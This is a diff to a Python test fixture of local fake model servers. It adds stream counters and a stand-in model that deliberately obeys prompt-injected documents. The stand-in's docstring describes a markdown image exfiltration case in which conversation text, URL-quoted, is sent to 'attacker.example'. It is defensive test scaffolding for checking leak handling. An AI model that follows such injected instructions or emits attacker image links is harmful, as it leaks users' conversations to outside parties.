@@ -14,6 +14,7 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import quote
 
 
 @dataclass
@@ -36,6 +37,9 @@ class Record:
     tokens_sent: int = 0
     client_went_away: bool = False
     finished: threading.Event = field(default_factory=threading.Event)
+    streams_open: int = 0  # streams begun and not yet ended, for leak counts
+    streams_most: int = 0
+    lock: threading.Lock = field(default_factory=threading.Lock)
 
 
 class _Handler(BaseHTTPRequestHandler):
@@ -61,6 +65,9 @@ class _Handler(BaseHTTPRequestHandler):
         self.send_header("Content-Type", "text/event-stream")
         self.send_header("Transfer-Encoding", "chunked")
         self.end_headers()
+        with self.record.lock:
+            self.record.streams_open += 1
+            self.record.streams_most = max(self.record.streams_most, self.record.streams_open)
         try:
             for i, token in enumerate(b.tokens):
                 if b.fail_after is not None and i == b.fail_after:
@@ -79,6 +86,8 @@ class _Handler(BaseHTTPRequestHandler):
             self.record.client_went_away = True
             self.close_connection = True
         finally:
+            with self.record.lock:
+                self.record.streams_open -= 1
             self.record.finished.set()
 
     def _chunk(self, data: bytes) -> None:
@@ -168,3 +177,62 @@ def failing_model_server(behaviour: Behaviour) -> Iterator[tuple[str, Record]]:
     finally:
         server.shutdown()
         server.server_close()
+
+
+# --- a model that obeys injected instructions (issue 17) -----------------------------------
+
+
+class _InjectionObeyingHandler(BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    standin: InjectionObeyingModelStandin
+
+    def log_message(self, *args) -> None:
+        pass
+
+    def do_GET(self) -> None:  # /v1/models, /health
+        send_json(self, 200, {"object": "list", "data": [{"id": "obeying-standin", "object": "model"}]})
+
+    def do_POST(self) -> None:
+        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"{}")
+        self.standin.prompts.append(body.get("messages", []))
+        self.send_response(200)
+        self.send_header("Content-Type", "text/event-stream")
+        self.send_header("Transfer-Encoding", "chunked")
+        self.end_headers()
+        answer = self.standin.answer_to(body.get("messages", []))
+        # A few pieces, cut mid-markup, as a real model's tokens are.
+        step = max(1, len(answer) // 7)
+        for start in range(0, len(answer), step):
+            self._chunk(_event(answer[start : start + step]))
+        self._chunk(_event("", finish="stop"))
+        self._chunk(b"data: [DONE]\n\n")
+        self.wfile.write(b"0\r\n\r\n")
+        self.wfile.flush()
+
+    def _chunk(self, data: bytes) -> None:
+        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
+        self.wfile.flush()
+
+
+class InjectionObeyingModelStandin(LoopbackStandin):
+    """A model server whose model does whatever a prompt-injected document tells it to.
+
+    The real demo model cannot be made to obey an injection on demand, so this stand-in plays
+    the worst case: it answers every chat with `answer`, `{context}` in it replaced by the
+    URL-quoted text of everything it was sent (what a model told "write
+    ![](https://attacker.example/?q=…)" would leak). `prompts` keeps every request's messages.
+    """
+
+    handler_class = _InjectionObeyingHandler
+
+    def __init__(self, answer: str) -> None:
+        self.answer = answer
+        self.prompts: list[list[dict]] = []
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self._server.server_address[1]}"
+
+    def answer_to(self, messages: list[dict]) -> str:
+        context = " ".join(str(m.get("content", "")) for m in messages)
+        return self.answer.replace("{context}", quote(context[:500]))
